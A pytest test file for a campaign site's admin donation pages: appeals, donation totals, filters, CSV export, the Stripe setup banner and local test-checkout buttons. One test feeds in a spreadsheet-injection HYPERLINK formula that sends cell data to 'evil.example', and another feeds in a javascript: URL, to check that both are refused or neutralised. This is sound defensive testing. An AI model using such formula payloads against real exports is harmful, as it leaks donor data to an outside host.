"""The console's donation pages: appeals (every refusal), donations, totals, CSV, the Stripe
banner, and the local test checkout's refund, renew and stop buttons."""

import csv
import io
import itertools
import re
from datetime import timedelta
from urllib.parse import quote

import pytest
from sqlalchemy import func, select

from campaign.db import utcnow
from campaign.donations.models import Appeal, AppealStatus, Donation, DonationStatus, Interval
from campaign.donations.queries import raised
from campaign.donations.stripe import get_test_checkout
from campaign.extensions import db
from tests.factories import donations as donation_factories
from tests.factories.content import make_campaign
from tests.factories.donations import make_appeal
from tests.helpers import post_form

_numbers = itertools.count(1)
LIST = "/admin/donations/"
DASH = "\N{EN DASH}"  # the captions write ranges with an en dash


@pytest.fixture(autouse=True)
def no_stripe_keys(app_settings):
    """Each test starts without Stripe keys, whatever the environment holds."""
    app_settings(STRIPE_SECRET_KEY=None, STRIPE_WEBHOOK_SECRET=None)


def make_donation(appeal: Appeal, amount: int = 2500, **fields) -> Donation:
    """A paid donation from a named donor unless told otherwise; flushed."""
    number = next(_numbers)
    status = fields.get("status", DonationStatus.PAID)
    paid = {
        "amount": amount,
        "status": status,
        "donor_name": f"Donor {number}",
        "donor_email": f"donor{number}@example.org",
        "paid_at": utcnow() if status != DonationStatus.PENDING else None,
        "payment_intent_id": f"pi_test_{number:024d}",
    }
    return donation_factories.make_donation(appeal, **(paid | fields))


def appeal_fields(campaign, **changes) -> dict:
    return {
        "campaign": str(campaign.id),
        "slug": "legal-fund",
        "title": "The legal fund",
        "body": "Lawyers for the **families**.",
        "currency": "eur",
        "preset_amounts": "10, 25, 50.50, 100",
        "minimum_amount": "2",
        "maximum_amount": "5000",
        "goal": "20000",
        "allow_monthly": "y",
        "external_url": "",
        "status": "open",
    } | changes


def appeal_count(session) -> int:
    return session.scalar(select(func.count()).select_from(Appeal))


def by_slug(session, slug: str) -> Appeal | None:
    return session.scalar(select(Appeal).where(Appeal.slug == slug))


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# --- who may use it -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("get", "/admin/donations/"),
        ("get", "/admin/donations/appeals"),
        ("get", "/admin/donations/appeals/new"),
        ("get", "/admin/donations/appeals/{appeal}/edit"),
        ("get", "/admin/donations/export.csv"),
        ("post", "/admin/donations/{donation}/test-refund"),
        ("post", "/admin/donations/{donation}/test-renew"),
        ("post", "/admin/donations/{donation}/test-stop"),
    ],
)
def test_donations_console_sends_visitors_to_sign_in(client, session, method, path):
    donation = make_donation(make_appeal())
    session.commit()
    path = path.format(appeal=donation.appeal_id, donation=donation.id)

    if method == "post":  # with a valid token, so only the sign-in guard can refuse
        response = post_form(client, path, {}, form_url="/admin/login")
    else:
        response = client.get(path)

    assert response.status_code == 302
    if method == "get":
        assert response.headers["Location"] == f"/admin/login?next={quote(path, safe='')}"
    assert response.headers["Location"].startswith("/admin/login")
    assert (donation.status, donation.amount_refunded) == (DonationStatus.PAID, 0)


def test_console_nav_links_to_donations_after_petitions(client, auth, session):
    auth.sign_in()

    html = client.get("/admin/").get_data(as_text=True)

    petitions = html.index('href="/admin/petitions/">Petitions</a>')
    assert html.index('href="/admin/donations/">Donations</a>') > petitions


# --- appeals ------------------------------------------------------------------------------


def test_editor_creates_an_appeal_in_major_units_stored_as_minor(client, auth, session):
    campaign = make_campaign(title="China Cables")
    auth.sign_in(role="editor")
    form = client.get("/admin/donations/appeals/new").get_data(as_text=True)
    assert f'<option value="{campaign.id}">China Cables</option>' in form
    assert 'value="10, 25, 50, 100"' in form  # a new appeal starts from sensible presets

    response = post_form(client, "/admin/donations/appeals/new", appeal_fields(campaign))

    assert response.status_code == 303
    assert response.headers["Location"] == "/admin/donations/appeals"
    appeal = by_slug(session, "legal-fund")
    assert appeal.campaign_id == campaign.id
    assert appeal.title == "The legal fund"
    assert "<strong>families</strong>" in appeal.body_html
    assert appeal.currency == "eur"  # typed lower-case, stored lower-case
    assert appeal.preset_amounts == [1000, 2500, 5050, 10000]
    assert (appeal.minimum_amount, appeal.maximum_amount, appeal.goal) == (200, 500000, 2000000)
    assert appeal.allow_monthly is True
    assert appeal.external_url is None
    assert appeal.status == AppealStatus.OPEN
    page = client.get("/donate/legal-fund").get_data(as_text=True)
    assert "€50.50" in page


def test_currency_in_capitals_and_zero_decimal_amounts(client, auth, session):
    campaign = make_campaign()
    auth.sign_in()

    post_form(
        client,
        "/admin/donations/appeals/new",
        appeal_fields(
            campaign,
            currency=" JPY ",
            preset_amounts="1000;2000 5000",
            minimum_amount="500",
            maximum_amount="1000000",
            goal="",
            allow_monthly="",
        ),
    )

    appeal = by_slug(session, "legal-fund")
    assert appeal.currency == "jpy"
    assert appeal.preset_amounts == [1000, 2000, 5000]  # yen have no minor unit
    assert (appeal.minimum_amount, appeal.maximum_amount, appeal.goal) == (500, 1000000, None)
    assert appeal.allow_monthly is False


def test_edit_form_shows_major_units_and_saves_changes(client, auth, session):
    appeal = make_appeal(
        preset_amounts=[500, 1050], minimum_amount=300, maximum_amount=20000, goal=100000
    )
    auth.sign_in()
    url = f"/admin/donations/appeals/{appeal.id}/edit"

    form = client.get(url).get_data(as_text=True)
    assert 'value="GBP"' in form
    assert 'value="5, 10.50"' in form
    assert 'value="3"' in form and 'value="200"' in form and 'value="1000"' in form

    fields = appeal_fields(appeal.campaign, slug=appeal.slug, currency="gbp", status="closed")
    response = post_form(client, url, fields | {"preset_amounts": "", "goal": ""})

    assert response.status_code == 303
    assert appeal.preset_amounts == []  # donors then type their own amount
    assert appeal.goal is None
    assert appeal.status == AppealStatus.CLOSED


def test_an_appeal_linking_to_a_partner(client, auth, session):
    campaign = make_campaign()
    auth.sign_in()
    form = client.get("/admin/donations/appeals/new").get_data(as_text=True)
    assert "takes no donations here" in form  # the hint: payment fields are then not used

    post_form(
        client,
        "/admin/donations/appeals/new",
        appeal_fields(campaign, external_url="https://partner.example/donate?ref=us"),
    )

    appeal = by_slug(session, "legal-fund")
    assert appeal.external_url == "https://partner.example/donate?ref=us"
    out = client.get("/donate/legal-fund/out")
    assert out.headers["Location"] == "https://partner.example/donate?ref=us"
    assert appeal.external_clicks == 1


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"currency": "xyz"}, "currency", "“XYZ” is not a currency in use today"),
        ({"currency": "DEM"}, "currency", "“DEM” is not a currency in use today"),
        ({"currency": "euro"}, "currency", "Enter a three-letter currency code"),
        ({"currency": ""}, "currency", "Enter a currency code, like GBP, EUR or USD."),
        ({"preset_amounts": "10, abc"}, "preset_amounts", "“abc”: Enter an amount as a number"),
        ({"preset_amounts": "10, 0"}, "preset_amounts", "“0”: Enter an amount greater than zero."),
        ({"preset_amounts": "10.555"}, "preset_amounts", "“10.555”: Use at most 2 decimal"),
        ({"preset_amounts": "10, 25, 10"}, "preset_amounts", "“10” is there twice."),
        ({"preset_amounts": "1, 25"}, "preset_amounts", "“1” is outside the gifts allowed"),
        ({"preset_amounts": "1 2 3 4 5 6 7 8 9"}, "preset_amounts", "Offer at most 8 amounts"),
        (
            {"currency": "JPY", "preset_amounts": "2.5"},
            "preset_amounts",
            "“2.5”: Enter a whole amount.",
        ),
        (
            {"minimum_amount": "50", "maximum_amount": "20"},
            "maximum_amount",
            "The largest gift cannot be below the smallest.",
        ),
        ({"minimum_amount": ""}, "minimum_amount", "Enter the smallest gift"),
        ({"minimum_amount": "0"}, "minimum_amount", "Enter an amount greater than zero."),
        ({"minimum_amount": "-1"}, "minimum_amount", "Enter an amount"),
        ({"maximum_amount": "1000000"}, "maximum_amount", "Enter at most €999,999.99."),
        ({"goal": "lots"}, "goal", "Enter an amount as a number"),
        ({"goal": "30000000"}, "goal", "Enter at most €20,000,000.00."),
        (
            {"external_url": "http://partner.example/donate"},
            "external_url",
            "Use the https:// address",
        ),
        ({"external_url": "partner.example"}, "external_url", "Enter the full address"),
        ({"external_url": "javascript:alert(1)"}, "external_url", "Enter the full address"),
        ({"slug": "Legal Fund"}, "slug", "Use lowercase letters, digits and single hyphens"),
        ({"slug": "manage"}, "slug", "already uses this slug"),
        ({"title": " "}, "title", "Enter a title."),
        ({"body": ""}, "body", "Write what the money is for."),
        ({"status": "paused"}, "status", "Not a valid choice"),
        ({"campaign": "999999"}, "campaign", "Not a valid choice"),
    ],
)
def test_invalid_appeal_fields_are_refused_beside_the_field(
    client, auth, session, changes, field, message
):
    campaign = make_campaign()
    auth.sign_in()
    before = appeal_count(session)

    response = post_form(client, "/admin/donations/appeals/new", appeal_fields(campaign) | changes)

    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert f'<p class="error" id="{field}-error">' in html
    error = re.search(rf'<p class="error" id="{field}-error">([^<]*)</p>', html).group(1)
    assert message in error
    assert appeal_count(session) == before


def test_duplicate_slug_is_refused_when_creating_and_editing(client, auth, session):
    make_appeal(slug="taken")
    mine = make_appeal(slug="mine", title="Mine")
    auth.sign_in()
    before = appeal_count(session)

    create = post_form(
        client, "/admin/donations/appeals/new", appeal_fields(mine.campaign, slug="taken")
    )
    edit = post_form(
        client,
        f"/admin/donations/appeals/{mine.id}/edit",
        appeal_fields(mine.campaign, slug="taken", title="Renamed"),
    )

    for response in (create, edit):
        assert response.status_code == 400
        assert 'id="slug-error">Another appeal, or a page of the site, already uses' in (
            response.get_data(as_text=True)
        )
    assert appeal_count(session) == before
    assert (mine.slug, mine.title, mine.currency) == ("mine", "Mine", "gbp")


def test_an_appeal_keeps_its_slug_and_may_save_it_unchanged(client, auth, session):
    mine = make_appeal(slug="mine")
    auth.sign_in()

    response = post_form(
        client,
        f"/admin/donations/appeals/{mine.id}/edit",
        appeal_fields(mine.campaign, slug="mine", currency="GBP"),
    )

    assert response.status_code == 303


def test_currency_stays_once_the_appeal_has_donations(client, auth, session):
    appeal = make_appeal(slug="mine", title="Mine")
    make_donation(appeal, status=DonationStatus.PENDING)
    auth.sign_in()
    url = f"/admin/donations/appeals/{appeal.id}/edit"

    refused = post_form(client, url, appeal_fields(appeal.campaign, slug="mine", currency="eur"))
    kept = post_form(client, url, appeal_fields(appeal.campaign, slug="mine", currency="GBP"))

    assert refused.status_code == 400
    assert 'id="currency-error">This appeal already has donations in GBP' in (
        refused.get_data(as_text=True)
    )
    assert kept.status_code == 303
    assert appeal.currency == "gbp"
    assert appeal.title == "The legal fund"  # the second save went through


def test_appeal_list_shows_raised_donors_goal_and_partner_clicks(client, auth, session):
    campaign = make_campaign(title="China Cables")
    appeal = make_appeal(campaign, title="Legal fund", goal=500000)
    make_donation(appeal, 2500)
    make_donation(appeal, 1000, amount_refunded=400)
    make_donation(appeal, 9900, status=DonationStatus.PENDING)
    partner = make_appeal(
        campaign, title="Give via Amnesty", external_url="https://amnesty.example/give", goal=None
    )
    partner.external_clicks = 1234
    draft = make_appeal(campaign, title="Not yet", status=AppealStatus.DRAFT, goal=None)
    auth.sign_in()

    html = client.get("/admin/donations/appeals").get_data(as_text=True)

    assert f'href="/admin/donations/appeals/{appeal.id}/edit">Legal fund</a>' in html
    assert f'href="/admin/donations/appeals/{draft.id}/edit">Not yet</a>' in html
    assert "<td>China Cables</td>" in html
    assert "<td>£31.00</td>" in html  # 25 + 10 - 4 refunded; the pending one does not count
    assert "<td>2</td>" in html
    assert "<td>£5,000.00</td>" in html
    assert "1,234<br><small>https://amnesty.example/give</small>" in html
    assert f'href="/admin/donations/?appeal={appeal.id}">Donations</a>' in html


# --- donations, totals, filters -----------------------------------------------------------


@pytest.fixture
def mixed(session):
    """Donations of every kind over two appeals and two currencies."""
    gbp = make_appeal(title="Pounds")
    usd = make_appeal(title="Dollars", currency="usd")
    now = utcnow()
    rows = {
        "paid": make_donation(gbp, 2500, created_at=now - timedelta(minutes=9)),
        "partly": make_donation(
            gbp, 5000, amount_refunded=1500, created_at=now - timedelta(minutes=8)
        ),
        "refunded": make_donation(
            gbp,
            1000,
            amount_refunded=1000,
            status=DonationStatus.REFUNDED,
            created_at=now - timedelta(minutes=7),
        ),
        "disputed": make_donation(
            gbp, 3000, status=DonationStatus.DISPUTED, created_at=now - timedelta(minutes=6)
        ),
        "pending": make_donation(
            gbp, 7700, status=DonationStatus.PENDING, created_at=now - timedelta(minutes=5)
        ),
        "failed": make_donation(
            gbp, 8800, status=DonationStatus.FAILED, created_at=now - timedelta(minutes=4)
        ),
        "monthly": make_donation(
            gbp,
            1200,
            interval=Interval.MONTH,
            subscription_id="sub_test_1",
            subscription_status="active",
            invoice_id="in_test_1",
            payment_intent_id=None,
            created_at=now - timedelta(minutes=3),
        ),
        "dollars": make_donation(usd, 4000, created_at=now - timedelta(minutes=2)),
        "old": make_donation(
            gbp, 600, paid_at=now - timedelta(days=40), created_at=now - timedelta(days=40)
        ),
    }
    return gbp, usd, rows


def totals_table(html: str) -> str:
    return html[html.index('id="totals-heading"') : html.index('id="days-heading"')]


def test_totals_per_currency_take_refunds_and_disputes_off(client, auth, session, mixed):
    auth.sign_in()

    totals = totals_table(client.get(LIST).get_data(as_text=True))

    # GBP: paid in 25 + 50 + 10 + 30 + 12 + 6 = 133; refunded 15 + 10; disputed 30; counted 78.
    gbp_row = re.search(r"<th scope=\"row\">GBP</th>(.*?)</tr>", totals, re.S).group(1)
    assert [cell.strip() for cell in re.findall(r"<td>(?:<strong>)?([^<]*)", gbp_row)] == [
        "4",
        "£133.00",
        "£25.00",
        "£30.00",
        "£78.00",
    ]
    usd_row = re.search(r"<th scope=\"row\">USD</th>(.*?)</tr>", totals, re.S).group(1)
    assert "US$40.00" in usd_row or "$40.00" in usd_row
    gbp, _usd, _rows = mixed
    # The counted total is the thermometer's number.
    assert raised(gbp).amount == 7800


def test_filters_by_appeal_status_and_interval(client, auth, session, mixed):
    gbp, usd, rows = mixed
    auth.sign_in()

    by_appeal = client.get(f"{LIST}?appeal={usd.id}").get_data(as_text=True)
    refunded = client.get(f"{LIST}?status=refunded").get_data(as_text=True)
    monthly = client.get(f"{LIST}?interval=month&appeal={gbp.id}").get_data(as_text=True)

    assert rows["dollars"].donor_email in by_appeal
    assert rows["paid"].donor_email not in by_appeal
    assert "GBP" not in totals_table(by_appeal)
    assert f"Donations 1{DASH}1 of 1" in refunded and rows["refunded"].donor_email in refunded
    assert "£0.00" in totals_table(refunded)  # all of it went back
    assert f"Donations 1{DASH}1 of 1" in monthly
    assert "gift active" in monthly
    assert "£12.00" in totals_table(monthly)


def test_an_unknown_filter_shows_everything(client, auth, session, mixed):
    auth.sign_in()

    html = client.get(f"{LIST}?status=stolen&appeal=nope").get_data(as_text=True)

    assert f"Donations 1{DASH}9 of 9" in html


def test_list_is_newest_first_with_donor_amounts_and_stripe_ids(client, auth, session, mixed):
    _gbp, _usd, rows = mixed
    auth.sign_in()

    html = client.get(LIST).get_data(as_text=True)

    emails = [rows[key].donor_email for key in ("dollars", "monthly", "pending", "paid", "old")]
    positions = [html.index(email) for email in emails]
    assert positions == sorted(positions)
    assert rows["paid"].donor_name in html
    assert "£50.00" in html and "£15.00" in html  # the partly refunded one and its refund
    # Long Stripe ids are cut short, with the whole id on hover.
    pi = rows["paid"].payment_intent_id
    assert f'<code title="{pi}">{pi[:15]}…</code>' in html


def test_fee_cover_and_monthly_renewals_are_shown(client, auth, session):
    appeal = make_appeal()
    first = make_donation(
        appeal,
        1270,
        fee_cover=70,
        interval=Interval.MONTH,
        subscription_id="sub_x",
        subscription_status="cancelled",
        invoice_id="in_x",
        payment_intent_id=None,
    )
    make_donation(
        appeal,
        1270,
        interval=Interval.MONTH,
        first_donation_id=first.id,
        subscription_id="sub_x",
        invoice_id="in_y",
        payment_intent_id=None,
    )
    auth.sign_in()

    html = client.get(LIST).get_data(as_text=True)

    assert "<td>£0.70</td>" in html
    assert "gift cancelled" in html
    assert f"renewal of #{first.id}" in html


def test_donations_are_paginated_by_fifty(client, auth, session):
    appeal = make_appeal()
    start = utcnow() - timedelta(hours=1)
    for n in range(51):
        make_donation(appeal, 100 + n, created_at=start + timedelta(seconds=n))
    auth.sign_in()

    first = client.get(LIST).get_data(as_text=True)
    second = client.get(f"{LIST}?page=2").get_data(as_text=True)

    assert f"Donations 1{DASH}50 of 51" in first
    assert 'href="/admin/donations/?page=2" rel="next"' in first
    assert f"Donations 51{DASH}51 of 51" in second
    assert "£1.00" in second  # the oldest, on the last page


def test_paid_by_day_covers_the_last_thirty_days_per_currency(client, auth, session, mixed):
    auth.sign_in()

    html = client.get(LIST).get_data(as_text=True)

    days = html[html.index('id="days-heading"') :]
    days = days[: days.index("</table>")]
    today = utcnow().date().isoformat()
    assert '<th scope="col">GBP</th><th scope="col">USD</th>' in days
    assert len(re.findall(r"<time datetime=", days)) == 30
    today_row = days[days.index(f'<time datetime="{today}">') :].split("</tr>")[0]
    # Before refunds, everything whose money arrived today; the 40-day-old gift is left out.
    assert "£133.00" not in today_row and "£127.00" in today_row
    assert "$40.00" in today_row


# --- CSV ----------------------------------------------------------------------------------


def test_csv_export_follows_the_filter_and_gives_major_units(client, auth, session, mixed):
    gbp, _usd, rows = mixed
    auth.sign_in(role="editor")

    response = client.get(f"/admin/donations/export.csv?appeal={gbp.id}")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="donations-')
    assert response.headers["Cache-Control"] == "no-store"
    table = csv_rows(response.get_data(as_text=True))
    assert len(table) == 8  # every status of the pound appeal; the dollar gift is not in it
    partly = next(row for row in table if row["id"] == str(rows["partly"].id))
    assert partly["appeal"] == gbp.slug
    assert partly["currency"] == "GBP"
    assert (partly["amount"], partly["amount_refunded"], partly["net_amount"]) == (
        "50",
        "15",
        "35",
    )
    assert partly["status"] == "paid"
    assert partly["donor_email"] == rows["partly"].donor_email
    assert partly["payment_intent_id"] == rows["partly"].payment_intent_id
    disputed = next(row for row in table if row["id"] == str(rows["disputed"].id))
    assert disputed["net_amount"] == "0"
    assert table[0]["id"] == str(rows["monthly"].id)  # newest first


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, auth, session):
    appeal = make_appeal()
    make_donation(
        appeal,
        donor_name='=HYPERLINK("https://evil.example?"&A2,"Click")',
        donor_email="@SUM(1+1)@example.org",
    )
    auth.sign_in()

    table = csv_rows(client.get("/admin/donations/export.csv").get_data(as_text=True))

    assert table[0]["donor_name"] == '\'=HYPERLINK("https://evil.example?"&A2,"Click")'
    assert table[0]["donor_email"] == "'@SUM(1+1)@example.org"


def test_export_donations_command_prints_the_same_csv(app, client, auth, session, mixed):
    gbp, _usd, _rows = mixed
    session.commit()
    auth.sign_in()
    from_console = client.get(f"/admin/donations/export.csv?appeal={gbp.id}")

    runner = app.test_cli_runner()
    one = runner.invoke(args=["export", "donations", "--appeal", gbp.slug])
    every = runner.invoke(args=["export", "donations"])

    assert one.exit_code == 0, one.output
    # `output` would turn CSV's \r\n into \n; the bytes are what a shell redirect writes.
    assert one.stdout_bytes.decode() == from_console.get_data(as_text=True)
    assert every.exit_code == 0, every.output
    assert len(csv_rows(every.stdout_bytes.decode())) == 9


def test_export_donations_refuses_an_unknown_appeal_with_exit_code_2(app, session):
    result = app.test_cli_runner().invoke(args=["export", "donations", "--appeal", "nope"])

    assert result.exit_code == 2
    assert "There is no appeal with the slug 'nope'." in result.output


# --- the Stripe banner --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("settings", "shown", "absent"),
    [
        ({}, "the local test checkout is active", "Donations are off"),
        (
            {"ENV_NAME": "production"},
            "Donations are off: STRIPE_SECRET_KEY is missing.",
            "test checkout is active",
        ),
        (
            {"ENV_NAME": "production", "STRIPE_WEBHOOK_SECRET": "whsec_x"},
            "Donations are off: STRIPE_SECRET_KEY is missing.",
            "test checkout is active",
        ),
        (
            {"STRIPE_SECRET_KEY": "sk_test_x"},
            "STRIPE_WEBHOOK_SECRET is missing: payments will never be confirmed.",
            "test checkout",
        ),
        (
            {"ENV_NAME": "production", "STRIPE_SECRET_KEY": "sk_live_x"},
            "payments will never be confirmed",
            "test checkout",
        ),
    ],
)
def test_banner_says_what_stripe_set_up_is_missing_on_every_page(
    client, auth, session, app_settings, settings, shown, absent
):
    appeal = make_appeal()
    auth.sign_in()
    app_settings(**settings)

    for path in (
        LIST,
        "/admin/donations/appeals",
        "/admin/donations/appeals/new",
        f"/admin/donations/appeals/{appeal.id}/edit",
    ):
        html = client.get(path).get_data(as_text=True)
        banner = html[html.index('class="notice stripe-banner') :].split("</div>")[0]
        assert shown in banner, path
        assert absent not in banner


def test_no_banner_when_stripe_is_fully_set_up(client, auth, session, app_settings):
    auth.sign_in()
    app_settings(STRIPE_SECRET_KEY="sk_test_x", STRIPE_WEBHOOK_SECRET="whsec_x")

    html = client.get(LIST).get_data(as_text=True)

    assert "stripe-banner" not in html
    assert "Refund (test)" not in html


def test_banner_stays_off_other_console_pages(client, auth, session):
    auth.sign_in()

    assert "stripe-banner" not in client.get("/admin/petitions/").get_data(as_text=True)


# --- the local test checkout's buttons ----------------------------------------------------


def paid_through_the_test_checkout(appeal: Appeal, amount: int, interval=Interval.ONCE):
    """A donation paid as the local test checkout pays it: signed events, webhook code."""
    donation = Donation(
        appeal=appeal,
        amount=amount,
        currency=appeal.currency,
        interval=interval,
        checkout_session_id=f"cs_test_local_{next(_numbers):020d}",
    )
    db.session.add(donation)
    db.session.commit()
    get_test_checkout().pay(donation, email="ada@example.org", name="Ada")
    return donation


def test_refund_button_lowers_the_appeals_raised_total(client, auth, session):
    appeal = make_appeal()
    kept = paid_through_the_test_checkout(appeal, 1000)
    donation = paid_through_the_test_checkout(appeal, 2500)
    assert raised(appeal).amount == 3500
    auth.sign_in(role="editor")
    page = client.get(LIST).get_data(as_text=True)
    assert "Refund (test)" in page
    assert "Renew (test)" not in page  # one-off gifts

    response = post_form(
        client,
        f"/admin/donations/{donation.id}/test-refund",
        {"next": f"{LIST}?status=paid"},
        form_url=LIST,
    )

    assert response.status_code == 303
    assert response.headers["Location"] == f"{LIST}?status=paid"
    assert donation.status == DonationStatus.REFUNDED
    assert donation.amount_refunded == 2500
    assert kept.status == DonationStatus.PAID
    assert raised(appeal).amount == 1000
    assert "refunded through a signed test event" in client.get(LIST).get_data(as_text=True)


def test_refund_button_refunds_what_is_left_of_a_partly_refunded_gift(client, auth, session):
    appeal = make_appeal()
    donation = paid_through_the_test_checkout(appeal, 2500)
    get_test_checkout().refund(donation, 1000)
    assert raised(appeal).amount == 1500
    auth.sign_in()

    post_form(client, f"/admin/donations/{donation.id}/test-refund", {}, form_url=LIST)

    assert (donation.status, donation.amount_refunded) == (DonationStatus.REFUNDED, 2500)
    assert raised(appeal).amount == 0


def test_a_refunded_gift_cannot_be_refunded_again(client, auth, session):
    appeal = make_appeal()
    donation = make_donation(appeal, amount_refunded=2500, status=DonationStatus.REFUNDED)
    auth.sign_in()
    assert "Refund (test)" not in client.get(LIST).get_data(as_text=True)

    response = post_form(client, f"/admin/donations/{donation.id}/test-refund", {}, form_url=LIST)

    assert response.status_code == 303
    assert "cannot be refunded now" in client.get(LIST).get_data(as_text=True)


def test_renew_and_stop_buttons_for_a_monthly_gift(client, auth, session):
    appeal = make_appeal()
    first = paid_through_the_test_checkout(appeal, 1200, Interval.MONTH)
    assert first.subscription_status == "active"
    auth.sign_in()
    page = client.get(LIST).get_data(as_text=True)
    assert "Renew (test)" in page and "Stop (test)" in page

    renew = post_form(client, f"/admin/donations/{first.id}/test-renew", {}, form_url=LIST)

    assert renew.status_code == 303
    renewals = session.scalars(select(Donation).where(Donation.first_donation_id == first.id))
    assert [(r.status, r.amount) for r in renewals] == [(DonationStatus.PAID, 1200)]
    assert raised(appeal) == raised(appeal).__class__(amount=2400, donors=1)

    post_form(client, f"/admin/donations/{first.id}/test-stop", {}, form_url=LIST)

    assert first.subscription_status == "cancelled"
    page = client.get(LIST).get_data(as_text=True)
    assert "Renew (test)" not in page and "Stop (test)" not in page
    refused = post_form(client, f"/admin/donations/{first.id}/test-renew", {}, form_url=LIST)
    assert refused.status_code == 303
    assert session.scalar(select(func.count()).where(Donation.first_donation_id == first.id)) == 1


@pytest.mark.parametrize(
    "settings",
    [
        {"STRIPE_SECRET_KEY": "sk_test_x", "STRIPE_WEBHOOK_SECRET": "whsec_x"},
        {"STRIPE_SECRET_KEY": "sk_test_x"},
        {"ENV_NAME": "production"},
    ],
)
@pytest.mark.parametrize("action", ["test-refund", "test-renew", "test-stop"])
def test_test_buttons_are_hidden_and_refused_outside_local_test_mode(
    client, auth, session, app_settings, settings, action
):
    appeal = make_appeal()
    donation = make_donation(
        appeal,
        1200,
        interval=Interval.MONTH,
        subscription_id="sub_test_9",
        subscription_status="active",
        invoice_id="in_test_9",
        payment_intent_id=None,
    )
    auth.sign_in()
    app_settings(**settings)
    page = client.get(LIST).get_data(as_text=True)
    assert "(test)" not in page
    assert "Test actions" not in page

    response = post_form(client, f"/admin/donations/{donation.id}/{action}", {}, form_url=LIST)

    assert response.status_code == 404
    assert (donation.status, donation.amount_refunded) == (DonationStatus.PAID, 0)
    assert donation.subscription_status == "active"
    assert session.scalar(select(func.count()).select_from(Donation)) == 1


def test_refund_button_works_beside_a_configured_webhook_secret(
    client, auth, session, app_settings
):
    # Development with STRIPE_WEBHOOK_SECRET but no secret key: still the local test checkout,
    # and its events must be signed with the secret the webhook code checks.
    app_settings(STRIPE_WEBHOOK_SECRET="whsec_configured_for_stripe_listen")
    appeal = make_appeal()
    donation = paid_through_the_test_checkout(appeal, 2500)
    auth.sign_in()

    post_form(client, f"/admin/donations/{donation.id}/test-refund", {}, form_url=LIST)

    assert donation.status == DonationStatus.REFUNDED
    assert raised(appeal).amount == 0
